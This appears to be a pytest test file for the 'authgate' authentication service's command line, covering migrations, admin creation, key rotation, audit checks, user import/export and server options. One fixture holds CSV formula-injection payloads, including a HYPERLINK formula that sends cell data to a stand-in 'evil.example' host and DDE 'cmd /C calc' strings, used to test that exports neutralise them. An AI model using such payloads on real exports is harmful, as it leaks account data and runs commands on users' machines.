"""The command line: migrate, create-admin, keys rotate, audit verify, openapi."""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from authgate.cli import app
from authgate.config import get_settings

runner = CliRunner()


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AUTHGATE_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path}/cli.db")
    monkeypatch.setenv("AUTHGATE_ENV", "test")
    monkeypatch.setenv("AUTHGATE_SECRET_KEY", "cli-secret-key-long-enough-0123456789abcdef")
    monkeypatch.setenv("AUTHGATE_PASSWORD__ARGON2_MEMORY_COST", "1024")
    get_settings.cache_clear()
    yield tmp_path
    get_settings.cache_clear()


def test_migrate_upgrade_current_downgrade(cli_env: Path) -> None:
    assert runner.invoke(app, ["migrate", "upgrade"]).exit_code == 0
    current = runner.invoke(app, ["migrate", "current"])
    assert current.exit_code == 0 and "(head)" in current.output
    assert runner.invoke(app, ["migrate", "downgrade", "base"]).exit_code == 0
    assert "(empty database)" in runner.invoke(app, ["migrate", "current"]).output


def test_migrate_downgrade_minus_one_goes_down_one_revision(cli_env: Path) -> None:
    """`-1`, the example in the command's help, is a revision, not an unknown option."""
    from alembic.script import ScriptDirectory

    from authgate.migrate import alembic_config

    scripts = ScriptDirectory.from_config(alembic_config(""))
    head = scripts.get_revision(scripts.get_current_head())
    previous = head.down_revision if head is not None else None
    assert isinstance(previous, str)  # a linear history: one revision before the head
    runner.invoke(app, ["migrate", "upgrade"])
    result = runner.invoke(app, ["migrate", "downgrade", "-1"])
    assert result.exit_code == 0, result.output
    assert f"Database at {previous}." in result.output
    current = runner.invoke(app, ["migrate", "current"])
    assert current.stdout.strip() == previous and "(head)" not in current.stdout
    for bogus in (["--bogus"], ["--sql"], ["-1", "--bogus"]):  # an option is never read as a revision
        refused = runner.invoke(app, ["migrate", "downgrade", *bogus])
        assert refused.exit_code == 2, bogus
    assert runner.invoke(app, ["migrate", "current"]).stdout.strip() == previous  # nothing moved


def test_create_admin_prints_a_generated_password_once(cli_env: Path) -> None:
    runner.invoke(app, ["migrate", "upgrade"])
    first = runner.invoke(app, ["create-admin"])
    assert first.exit_code == 0, first.output
    assert "admin@example.com" in first.output and "password" in first.output
    second = runner.invoke(app, ["create-admin"])
    assert second.exit_code == 0 and "password" not in second.output and "exists already" in second.output


def test_create_admin_from_settings(cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AUTHGATE_ADMIN_EMAIL", "root@example.org")
    monkeypatch.setenv("AUTHGATE_ADMIN_PASSWORD", "a long admin pass phrase")
    get_settings.cache_clear()
    runner.invoke(app, ["migrate", "upgrade"])
    result = runner.invoke(app, ["create-admin"])
    assert result.exit_code == 0 and "root@example.org" in result.output
    assert "a long admin pass phrase" not in result.output


def _count(table: str) -> int:
    """Rows in the `cli_env` database (read without the settings, which may be the fault)."""
    import os
    import sqlite3

    with sqlite3.connect(os.environ["AUTHGATE_DATABASE_URL"].split("///", 1)[1]) as conn:
        return int(conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0])


@pytest.mark.parametrize(
    ("password", "reason"),
    [
        ("a", "Password must be 8 to 128 characters"),
        ("password", "Password is too weak"),
        ("root@example.org 2024 Zq!", "Password must not contain your email or username"),
    ],
)
@pytest.mark.parametrize("command", ["create-admin", "serve"])
def test_the_first_admin_password_is_held_to_the_password_policy(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch, command: str, password: str, reason: str
) -> None:
    """SPEC §4's policy applies to AUTHGATE_ADMIN_PASSWORD: refused, nothing is created, and `serve`
    does not start without its admin."""
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: pytest.fail("served"))
    monkeypatch.setenv("AUTHGATE_ADMIN_EMAIL", "root@example.org")
    monkeypatch.setenv("AUTHGATE_ADMIN_PASSWORD", password)
    get_settings.cache_clear()
    runner.invoke(app, ["migrate", "upgrade"])
    result = runner.invoke(app, [command])
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: AUTHGATE_ADMIN_PASSWORD is refused: ")
    assert reason in lines[0] and "Created" not in result.output and "Traceback" not in result.output
    assert "2024 Zq!" not in result.output  # the password itself is never printed
    assert _count("user_account") == 0 and _count("audit_event") == 0


@pytest.mark.parametrize("command", ["create-admin", "serve"])
def test_the_first_admin_email_is_checked_like_a_registration(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: pytest.fail("served"))
    runner.invoke(app, ["migrate", "upgrade"])
    monkeypatch.setenv("AUTHGATE_ADMIN_EMAIL", "notanemail")
    get_settings.cache_clear()
    result = runner.invoke(app, [command])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: AUTHGATE_ADMIN_EMAIL is refused: not a valid email address")
    assert len(result.stderr.strip().splitlines()) == 1
    assert _count("user_account") == 0


def test_an_unused_admin_email_stops_nothing(cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Once an admin exists the setting is unused: an address registration would refuse
    (`admin@localhost`) must not stop `migrate`, `worker` or `serve` of an existing install."""
    served: list[str] = []
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: served.append(target))
    runner.invoke(app, ["migrate", "upgrade"])
    assert runner.invoke(app, ["create-admin"]).exit_code == 0
    monkeypatch.setenv("AUTHGATE_ADMIN_EMAIL", "admin@localhost")
    get_settings.cache_clear()
    assert runner.invoke(app, ["migrate", "current"]).exit_code == 0
    again = runner.invoke(app, ["create-admin"])
    assert again.exit_code == 0 and "exists already" in again.output
    assert runner.invoke(app, ["serve"]).exit_code == 0 and served == ["authgate.main:create_app"]


def test_a_generated_admin_password_passes_the_policy(cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import re

    from authgate.security.passwords import check_password_policy

    monkeypatch.setenv("AUTHGATE_PASSWORD__MIN_LENGTH", "40")  # longer than the usual 24 characters
    get_settings.cache_clear()
    runner.invoke(app, ["migrate", "upgrade"])
    result = runner.invoke(app, ["create-admin"])
    assert result.exit_code == 0, result.output
    found = re.search(r"password \(shown once, change it\): (\S+)", result.output)
    assert found is not None and len(found[1]) == 40
    check_password_policy(found[1], get_settings().password, user_inputs=["admin@example.com"])
    assert _count("user_account") == 1


@pytest.mark.parametrize("deleted", [False, True])
def test_create_admin_never_claims_an_account_it_did_not_create(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch, deleted: bool
) -> None:
    """The admin address already belongs to an account without the admin role: nothing is created."""
    import sqlite3

    monkeypatch.setenv("AUTHGATE_ADMIN_EMAIL", "boss@example.com")
    get_settings.cache_clear()
    runner.invoke(app, ["migrate", "upgrade"])
    assert runner.invoke(app, ["create-admin"]).exit_code == 0
    database = get_settings().database_url.split("///", 1)[1]
    with sqlite3.connect(database) as conn:
        conn.execute("DELETE FROM user_role")  # the admin is an admin no longer
        if deleted:
            conn.execute("UPDATE user_account SET deleted_at = CURRENT_TIMESTAMP")
    result = runner.invoke(app, ["create-admin"])
    assert result.exit_code == 1
    assert "No admin created" in result.output and "Created" not in result.output
    assert "shown once" not in result.output  # no generated password that was never stored
    assert ("deleted account" in result.output) is deleted
    with sqlite3.connect(database) as conn:
        assert conn.execute("SELECT count(*) FROM user_account").fetchone() == (1,)


def test_keys_rotate(cli_env: Path) -> None:
    runner.invoke(app, ["migrate", "upgrade"])
    first = runner.invoke(app, ["keys", "rotate"])
    second = runner.invoke(app, ["keys", "rotate"])
    assert first.exit_code == second.exit_code == 0
    assert "New signing key" in first.output and first.output != second.output


def test_audit_verify_intact(cli_env: Path) -> None:
    runner.invoke(app, ["migrate", "upgrade"])
    runner.invoke(app, ["create-admin"])
    result = runner.invoke(app, ["audit", "verify"])
    assert result.exit_code == 0 and "intact: 1 events" in result.output


def test_openapi_prints_the_schema(cli_env: Path) -> None:
    result = runner.invoke(app, ["openapi"])
    assert result.exit_code == 0
    assert json.loads(result.stdout)["info"]["title"] == "authgate"


def test_users_import_and_export_keep_hashes(cli_env: Path) -> None:
    from pwdlib.hashers.bcrypt import BcryptHasher

    runner.invoke(app, ["migrate", "upgrade"])
    bcrypt_hash = BcryptHasher().hash("imported pass phrase 1")
    source = cli_env / "users.csv"
    source.write_text(
        "email,username,full_name,password_hash,email_verified,roles\n"
        f"one@example.com,one,User One,{bcrypt_hash},true,user\n"
        "two@example.com,,,,false,\n"
        "not-an-email,,,,,\n"
        "ONE@example.com,,,,,\n"
        "three@example.com,,,plaintext-password,,\n"
    )
    result = runner.invoke(app, ["users", "import", str(source)])
    assert result.exit_code == 1, result.output
    assert "Created 2 accounts; skipped 3." in result.output
    assert (
        "row 3: email" in result.output and "row 4: email_taken" in result.output and "row 5" in result.output
    )

    exported = runner.invoke(app, ["users", "export", "--output", str(cli_env / "out.json")])
    assert exported.exit_code == 0, exported.output
    rows = json.loads((cli_env / "out.json").read_text())
    by_email = {r["email"]: r for r in rows}
    assert by_email["one@example.com"]["password_hash"] == bcrypt_hash
    assert by_email["one@example.com"]["email_verified"] is True
    assert by_email["two@example.com"]["password_hash"] is None
    assert (cli_env / "out.json").stat().st_mode & 0o777 == 0o600

    again = cli_env / "again.json"
    again.write_text(json.dumps([{"email": "four@example.com", "roles": ["user"]}]))
    assert runner.invoke(app, ["users", "import", str(again)]).exit_code == 0
    as_csv = runner.invoke(app, ["users", "export", "--format", "csv"])
    assert (
        as_csv.exit_code == 0 and "four@example.com" in as_csv.stdout and as_csv.stdout.startswith("id,email")
    )


def test_users_import_keeps_roles_and_refuses_unknown_ones(cli_env: Path) -> None:
    """Into a database only migrated (no serve, no create-admin: no built-in roles yet), every row
    keeps its roles; a row naming a role that does not exist is skipped with a reason, not created
    without it."""
    runner.invoke(app, ["migrate", "upgrade"])
    source = cli_env / "users.json"
    source.write_text(
        json.dumps(
            [
                {"email": "plain@example.com"},
                {"email": "boss@example.com", "roles": "admin user"},
                {"email": "typo@example.com", "roles": ["user", "superuser", "boss"]},
                {"email": "taken@example.com"},
                {"email": "TAKEN@example.com"},
            ]
        )
    )
    result = runner.invoke(app, ["users", "import", str(source)])
    assert result.exit_code == 1, result.output
    assert "Created 3 accounts; skipped 2." in result.output
    assert "row 3: validation_error: Unknown role: boss, superuser" in result.output
    assert "row 5: email_taken: Email already registered" in result.output
    exported = runner.invoke(app, ["users", "export"])
    roles = {row["email"]: row["roles"] for row in json.loads(exported.stdout)}
    assert roles == {
        "plain@example.com": "user",
        "boss@example.com": "admin user",
        "taken@example.com": "user",
    }


def test_users_import_records_each_account_in_the_audit_log(cli_env: Path) -> None:
    import sqlite3

    runner.invoke(app, ["migrate", "upgrade"])
    source = cli_env / "users.csv"
    source.write_text(
        "email,roles\n"
        "plain@example.com,\n"
        "boss@example.com,admin user\n"
        "PLAIN@example.com,\n"  # taken: skipped, recorded nowhere
        "typo@example.com,boss\n"  # unknown role: skipped, recorded nowhere
    )
    assert runner.invoke(app, ["users", "import", str(source)]).exit_code == 1
    with sqlite3.connect(get_settings().database_url.split("///", 1)[1]) as conn:
        users = dict(conn.execute("SELECT email, id FROM user_account").fetchall())
        events = conn.execute(
            "SELECT action, actor_type, actor_id, target_type, target_id, data FROM audit_event ORDER BY seq"
        ).fetchall()
    assert set(users) == {"plain@example.com", "boss@example.com"}
    assert len(events) == 2
    by_target = {event[4]: (event[:4], json.loads(event[5])) for event in events}
    for email, data in (
        ("plain@example.com", {"imported": True}),
        ("boss@example.com", {"imported": True, "roles": ["admin", "user"]}),
    ):
        user_id = str(uuid.UUID(users[email]))  # the account's id as the event names it
        assert by_target[user_id] == (("user.registered", "system", None, "user"), data)
    assert "intact: 2 events" in runner.invoke(app, ["audit", "verify"]).output


def test_users_import_commits_batch_by_batch(cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each audit event holds the chain's head until its transaction commits: an import commits
    every `IMPORT_BATCH` rows, so the running service's sign-ins wait for one batch, not the file."""
    from sqlalchemy import Engine, event

    runner.invoke(app, ["migrate", "upgrade"])
    monkeypatch.setattr("authgate.users.transfer.IMPORT_BATCH", 2)
    source = cli_env / "users.csv"
    source.write_text("email\n" + "".join(f"batch{i}@example.com\n" for i in range(5)))
    inserted: list[int] = [0]
    committed: list[int] = []  # accounts per committed transaction

    def statement(_conn: object, _cursor: object, sql: str, *_: object) -> None:
        inserted[0] += sql.startswith("INSERT INTO user_account")

    def commit(_conn: object) -> None:
        if inserted[0]:
            committed.append(inserted[0])
            inserted[0] = 0

    event.listen(Engine, "before_cursor_execute", statement)
    event.listen(Engine, "commit", commit)
    try:
        result = runner.invoke(app, ["users", "import", str(source)])
    finally:
        event.remove(Engine, "before_cursor_execute", statement)
        event.remove(Engine, "commit", commit)
    assert result.exit_code == 0 and "Created 5 accounts; skipped 0." in result.output
    assert committed == [2, 2, 1]


def test_users_import_reports_what_the_file_says_as_text(cli_env: Path) -> None:
    """A reason quoting the file (a role name) is printed as it is, never read as console markup."""
    runner.invoke(app, ["migrate", "upgrade"])
    source = cli_env / "users.json"
    source.write_text(json.dumps([{"email": "a@example.com", "roles": "[/x] [bold]"}]))
    result = runner.invoke(app, ["users", "import", str(source)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "row 1: validation_error: Unknown role: [/x], [bold]" in result.output
    broken = cli_env / "broken.json"
    broken.write_text("{not json")
    unreadable = runner.invoke(app, ["users", "import", str(broken)])
    assert unreadable.exit_code == 1
    assert unreadable.stderr.strip().startswith(f"Error: cannot read {broken}")


def test_users_export_shows_progress_on_stderr_and_keeps_stdout_clean(cli_env: Path) -> None:
    """SPEC §10: export has a progress bar, on stderr: stdout is the JSON or CSV alone."""
    runner.invoke(app, ["migrate", "upgrade"])
    empty = runner.invoke(app, ["users", "export"])
    assert empty.exit_code == 0 and empty.stdout == "[]\n"
    source = cli_env / "users.csv"
    source.write_text("email,full_name\n" + "".join(f"u{i}@example.com,User {i}\n" for i in range(5)))
    assert runner.invoke(app, ["users", "import", str(source)]).exit_code == 0

    as_json = runner.invoke(app, ["users", "export"])
    assert as_json.exit_code == 0, as_json.output
    rows = json.loads(as_json.stdout)
    assert len(rows) == 5 and as_json.stdout == json.dumps(rows, indent=2) + "\n"  # as json.dump wrote it
    assert "Exporting" in as_json.stderr and "100%" in as_json.stderr
    assert "Exported 5 accounts." in as_json.stderr

    as_csv = runner.invoke(app, ["users", "export", "--format", "csv"])
    assert as_csv.exit_code == 0 and as_csv.stdout.startswith("id,email,")
    assert len(as_csv.stdout.splitlines()) == 6 and "Exporting" in as_csv.stderr

    to_file = runner.invoke(app, ["users", "export", "-o", str(cli_env / "out.json")])
    assert to_file.exit_code == 0 and to_file.stdout == "" and "Exporting" in to_file.stderr
    assert json.loads((cli_env / "out.json").read_text()) == rows


# Self-chosen texts a spreadsheet would run as formulas, and one already quoted like an export.
FORMULA_ACCOUNTS = [
    {
        "email": "link@example.com",
        "full_name": '=HYPERLINK("http://evil.example/?h="&J2,"Click")',
        "password_hash": "$argon2id$v=19$m=19456,t=2,p=1$c29tZXNhbHQ$RdescudvJCsgt3ub+b+dWRWJTmaaJObG",
    },
    {"email": "plus@example.com", "full_name": "+cmd|' /C calc'!A0", "phone": "+14155550100"},
    {"email": "minus@example.com", "full_name": "-2+3"},
    {"email": "at@example.com", "full_name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"email": "-dash@example.com", "full_name": "'=already quoted"},
    {"email": "plain@example.com", "full_name": "O'Brien", "username": "obrien"},
]


def _by_email(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["email"].lstrip("'"): row for row in rows}


def test_users_export_csv_neutralises_formulas_and_import_restores_them(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A CSV cell starting with =, +, -, @, tab or CR gets a leading `'` (OWASP), so a spreadsheet
    shows it as text instead of running it beside the password hashes; JSON keeps the values, and
    importing the CSV gives back exactly what was exported."""
    import csv
    import io

    runner.invoke(app, ["migrate", "upgrade"])
    source = cli_env / "accounts.json"
    source.write_text(json.dumps(FORMULA_ACCOUNTS))
    assert runner.invoke(app, ["users", "import", str(source)]).exit_code == 0

    as_json = _by_email(json.loads(runner.invoke(app, ["users", "export"]).stdout))
    for account in FORMULA_ACCOUNTS:  # JSON: unchanged
        assert {k: as_json[account["email"]][k] for k in account} == account

    exported = runner.invoke(app, ["users", "export", "--format", "csv", "-o", str(cli_env / "out.csv")])
    assert exported.exit_code == 0, exported.output
    cells = _by_email(list(csv.DictReader(io.StringIO((cli_env / "out.csv").read_text()))))
    assert cells["link@example.com"]["full_name"] == "'" + FORMULA_ACCOUNTS[0]["full_name"]
    assert cells["plus@example.com"]["full_name"] == "'+cmd|' /C calc'!A0"
    assert cells["plus@example.com"]["phone"] == "'+14155550100"
    assert cells["minus@example.com"]["full_name"] == "'-2+3"
    assert cells["at@example.com"]["full_name"].startswith("'@SUM(")
    assert cells["-dash@example.com"]["email"] == "'-dash@example.com"
    assert cells["-dash@example.com"]["full_name"] == "''=already quoted"  # one more quote, undone on import
    assert cells["plain@example.com"]["full_name"] == "O'Brien"  # nothing a spreadsheet would run: as it is
    for row in cells.values():
        assert not row["full_name"].startswith(("=", "+", "-", "@", "\t", "\r"))

    # Into an empty database: the CSV gives back the accounts as they were.
    monkeypatch.setenv("AUTHGATE_DATABASE_URL", f"sqlite+aiosqlite:///{cli_env}/restored.db")
    get_settings.cache_clear()
    runner.invoke(app, ["migrate", "upgrade"])
    imported = runner.invoke(app, ["users", "import", str(cli_env / "out.csv")])
    assert imported.exit_code == 0 and "Created 6 accounts; skipped 0." in imported.output
    restored = _by_email(json.loads(runner.invoke(app, ["users", "export"]).stdout))
    for account in FORMULA_ACCOUNTS:
        assert {k: restored[account["email"]][k] for k in account} == account


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''\t", "'", "''", "'a", "a=1", "", "1-2"]
)
def test_a_neutralised_cell_runs_as_no_formula_and_restores_exactly(text: str) -> None:
    from authgate.users.transfer import FORMULA_STARTS, neutralise_cell, restore_cell

    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore_cell(cell) == text
    assert neutralise_cell(None) is None and neutralise_cell(True) is True  # not text: as it is


def test_users_import_of_a_csv_takes_off_only_the_quote_before_a_formula(cli_env: Path) -> None:
    """A cell of `'` before =, +, -, @, tab or CR loses that one quote; any other `'` stays."""
    runner.invoke(app, ["migrate", "upgrade"])
    source = cli_env / "users.csv"
    source.write_text(
        "email,full_name,phone\n"
        "a@example.com,'=1+1,'+14155550100\n"
        "b@example.com,'plain,\n"
        "c@example.com,''@twice,\n"
        "d@example.com,it's,\n"
    )
    result = runner.invoke(app, ["users", "import", str(source)])
    assert result.exit_code == 0, result.output
    rows = _by_email(json.loads(runner.invoke(app, ["users", "export"]).stdout))
    assert rows["a@example.com"]["full_name"] == "=1+1" and rows["a@example.com"]["phone"] == "+14155550100"
    assert rows["b@example.com"]["full_name"] == "'plain"
    assert rows["c@example.com"]["full_name"] == "'@twice"
    assert rows["d@example.com"]["full_name"] == "it's"


def test_a_failed_export_leaves_the_output_file_as_it_was(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = cli_env / "out.json"
    target.write_text("the previous export")
    monkeypatch.setenv("AUTHGATE_DATABASE_URL", f"sqlite+aiosqlite:///{cli_env}/never-migrated.db")
    get_settings.cache_clear()
    result = runner.invoke(app, ["users", "export", "-o", str(target)])
    assert result.exit_code == 1 and "no such table" in result.stderr
    assert target.read_text() == "the previous export"
    assert sorted(p.name for p in cli_env.iterdir() if "out.json" in p.name) == ["out.json"]  # no leftovers
    directory = runner.invoke(app, ["users", "export", "-o", str(cli_env)])
    assert directory.exit_code == 1 and f"{cli_env}: Is a directory" in directory.stderr


async def test_imported_bcrypt_user_can_sign_in_and_is_upgraded(
    client: object, db: object, sessionmaker: object
) -> None:
    from httpx import AsyncClient
    from pwdlib.hashers.bcrypt import BcryptHasher
    from sqlalchemy import select
    from sqlalchemy.ext.asyncio import AsyncSession

    from authgate.config import PasswordPolicy
    from authgate.security.passwords import PasswordHasher
    from authgate.users.models import User
    from authgate.users.transfer import import_users

    assert isinstance(client, AsyncClient) and isinstance(db, AsyncSession)
    policy = PasswordPolicy(argon2_memory_cost=1024, argon2_time_cost=1)
    digest = BcryptHasher().hash("legacy pass phrase 9")
    rows = [{"email": "legacy@example.com", "password_hash": digest}]
    report = await import_users(sessionmaker, PasswordHasher(policy), rows)  # type: ignore[arg-type]
    await db.commit()
    assert report.created == 1
    response = await client.post(
        "/api/v1/auth/login", json={"email": "legacy@example.com", "password": "legacy pass phrase 9"}
    )
    assert response.status_code == 200
    stored = await db.scalar(select(User.password_hash).where(User.email == "legacy@example.com"))
    assert stored is not None and stored.startswith("$argon2id$")


def test_serve_migrates_creates_the_admin_and_runs_one_asyncio_worker_on_sqlite(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On SQLite `authgate serve` hands uvicorn the standard asyncio loop: uvloop's libuv accepts
    one connection per loop turn, so on a busy worker new connections waited up to a second."""
    calls: list[dict[str, object]] = []
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: calls.append(kwargs))
    for name in ("AUTHGATE_HOST", "AUTHGATE_PORT"):  # restored after the test: serve's options set them
        monkeypatch.setenv(name, "")
    result = runner.invoke(app, ["serve", "--host", "127.0.0.2", "--port", "8123"])
    assert result.exit_code == 0, result.output
    assert len(calls) == 1
    options = calls[0]
    assert options["loop"] == "asyncio" and options["http"] == "httptools" and options["factory"] is True
    assert (options["host"], options["port"]) == ("127.0.0.2", 8123)
    # The app the factory builds sees the options too: links and the issuer follow the port.
    assert (
        "authgate serving on http://127.0.0.2:8123 (API docs at http://127.0.0.2:8123/docs)" in result.output
    )
    assert get_settings().public_url == "http://127.0.0.2:8123"
    assert "public address" not in result.output  # the same one
    assert options["server_header"] is False and options["access_log"] is False
    current = runner.invoke(app, ["migrate", "current"])
    assert "(head)" in current.output
    assert "exists already" in runner.invoke(app, ["create-admin"]).output
    monkeypatch.setenv("AUTHGATE_EVENT_LOOP", "uvloop")  # the setting reaches uvicorn
    get_settings.cache_clear()
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert calls[-1]["loop"] == "uvloop"


def test_serve_trusts_forwarding_headers_from_the_proxies_configured(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """uvicorn believes X-Forwarded-For only from `forwarded_allow_ips`; left to uvicorn that is the
    loopback address alone, so behind a balancer on another host every client was the balancer."""
    calls: list[dict[str, object]] = []
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: calls.append(kwargs))
    monkeypatch.delenv("AUTHGATE_FORWARDED_ALLOW_IPS", raising=False)
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert calls[-1]["proxy_headers"] is True
    assert calls[-1]["forwarded_allow_ips"] == ["127.0.0.1", "::1"]  # the default: a local proxy
    monkeypatch.setenv("AUTHGATE_FORWARDED_ALLOW_IPS", "10.0.0.5, 192.168.0.0/16,fd00::/8")
    get_settings.cache_clear()
    result = runner.invoke(app, ["serve"])
    assert result.exit_code == 0, result.output
    assert calls[-1]["forwarded_allow_ips"] == ["10.0.0.5", "192.168.0.0/16", "fd00::/8"]
    monkeypatch.setenv("AUTHGATE_FORWARDED_ALLOW_IPS", "*")
    get_settings.cache_clear()
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert calls[-1]["forwarded_allow_ips"] == ["*"]


def test_serve_names_the_address_it_binds_and_the_public_one_apart(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two instances behind one PUBLIC_URL each say where they listen."""
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: None)
    monkeypatch.setenv("AUTHGATE_PORT", "")
    monkeypatch.setenv("AUTHGATE_PUBLIC_URL", "https://id.example.com")
    result = runner.invoke(app, ["serve", "--port", "8202"])
    assert result.exit_code == 0, result.output
    assert (
        "authgate serving on http://127.0.0.1:8202 (API docs at http://127.0.0.1:8202/docs)" in result.output
    )
    assert "public address (token issuer, links in messages): https://id.example.com" in result.output


def test_serve_brackets_an_ipv6_address_in_its_banner(cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: None)
    for name in ("AUTHGATE_HOST", "AUTHGATE_PORT"):
        monkeypatch.setenv(name, "")
    result = runner.invoke(app, ["serve", "--host", "::1", "--port", "8124"])
    assert result.exit_code == 0, result.output
    assert "authgate serving on http://[::1]:8124 (API docs at http://[::1]:8124/docs)" in result.output


def test_the_event_loop_follows_the_database_unless_chosen() -> None:
    from tests.conftest import make_settings

    postgres = "postgresql+asyncpg://u@localhost/db"
    assert make_settings("sqlite+aiosqlite:///x.db").server_loop == "asyncio"
    assert make_settings(postgres).server_loop == "uvloop"  # uvloop is a dependency (not on Windows)
    assert make_settings(postgres, event_loop="asyncio").server_loop == "asyncio"
    assert make_settings("sqlite+aiosqlite:///x.db", event_loop="uvloop").server_loop == "uvloop"


def test_with_debug_logging_an_operator_error_keeps_its_traceback(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AUTHGATE_LOG_LEVEL", "DEBUG")
    get_settings.cache_clear()
    result = runner.invoke(app, ["migrate", "upgrade", "nosuch"])
    assert result.exit_code == 1 and "Error:" not in result.stderr
    assert type(result.exception).__name__ == "CommandError"  # raised for the traceback


def _one_error_line(result: Result) -> str:
    """An operator error: exit 1, nothing on stdout, one line on stderr, no traceback, no secret."""
    assert result.exit_code == 1, result.output
    assert result.stdout == "" and "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "cli-secret-key" not in result.output and "hunter2" not in result.output
    return lines[0]


@pytest.mark.parametrize(
    ("args", "env", "expected"),
    [
        (["migrate", "upgrade", "nosuch"], {}, "Can't locate revision identified by 'nosuch'"),
        (["serve"], {"AUTHGATE_PORT": "notaport"}, "AUTHGATE_PORT: Input should be a valid integer"),
        (
            ["serve"],
            {"AUTHGATE_ENV": "production", "AUTHGATE_SECRET_KEY": "", "AUTHGATE_ADMIN_PASSWORD": "hunter2"},
            "AUTHGATE_SECRET_KEY is not set; AUTHGATE_ADMIN_PASSWORD is shorter than 12 characters",
        ),
        (
            ["users", "export", "-o", "/nonexistent/dir/x.json"],
            {},
            "/nonexistent/dir/x.json: No such file or directory",
        ),
        (
            ["audit", "verify"],
            {"AUTHGATE_DATABASE_URL": "sqlite+aiosqlite:////nonexistent/dir/x.db"},
            "database: unable to open database file",
        ),
        (
            ["audit", "verify"],
            {"AUTHGATE_DATABASE_URL": "postgresql+asyncpg://authgate:hunter2@127.0.0.1:1/authgate"},
            "cannot reach the database (AUTHGATE_DATABASE_URL)",
        ),
        (
            ["serve"],
            {"AUTHGATE_CORS_ORIGINS": "*"},
            "Error: AUTHGATE_CORS_ORIGINS may not contain *: list each origin allowed",
        ),
        (
            ["serve"],
            {"AUTHGATE_FORWARDED_ALLOW_IPS": "10.0.0.0/33"},
            "AUTHGATE_FORWARDED_ALLOW_IPS: '10.0.0.0/33' is not an IP address or network",
        ),
        (
            ["migrate", "current"],
            {"AUTHGATE_DATABASE_URL": "mysql://authgate:hunter2@127.0.0.1/authgate"},
            "AUTHGATE_DATABASE_URL: use sqlite+aiosqlite:///PATH or postgresql+asyncpg://",
        ),
    ],
)
def test_operator_errors_are_one_line_on_stderr_and_exit_1(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], env: dict[str, str], expected: str
) -> None:
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: pytest.fail("served"))
    assert runner.invoke(app, ["migrate", "upgrade"]).exit_code == 0
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    get_settings.cache_clear()
    assert expected in _one_error_line(runner.invoke(app, args))


def test_usage_errors_keep_exit_2(cli_env: Path) -> None:
    assert runner.invoke(app, ["migrate", "nosuch"]).exit_code == 2
    assert runner.invoke(app, ["users", "export", "--bogus"]).exit_code == 2


def test_python_m_authgate_reports_an_operator_error_in_one_line(cli_env: Path) -> None:
    import os
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-m", "authgate", "migrate", "upgrade", "nosuch"],
        capture_output=True,
        text=True,
        env=os.environ,
        check=False,
        timeout=60,
    )
    assert done.returncode == 1 and done.stdout == ""
    assert done.stderr.strip() == "Error: migration: Can't locate revision identified by 'nosuch'"


@pytest.mark.parametrize("command", [["serve"], ["worker", "--once"]])
def test_a_database_behind_the_code_is_refused_in_one_line(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch, command: list[str]
) -> None:
    """docs/operations.md: a process refuses to start on a database behind its code and names the
    command; production's `serve` does not migrate, so it must say so, not fail its start-up."""
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: pytest.fail("served"))
    monkeypatch.setenv("AUTHGATE_ENV", "production")
    get_settings.cache_clear()
    line = _one_error_line(runner.invoke(app, command))
    assert "no revision (empty database)" in line and "authgate migrate upgrade" in line


def test_serve_refuses_signing_keys_its_secret_cannot_open(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: pytest.fail("served"))
    assert runner.invoke(app, ["migrate", "upgrade"]).exit_code == 0
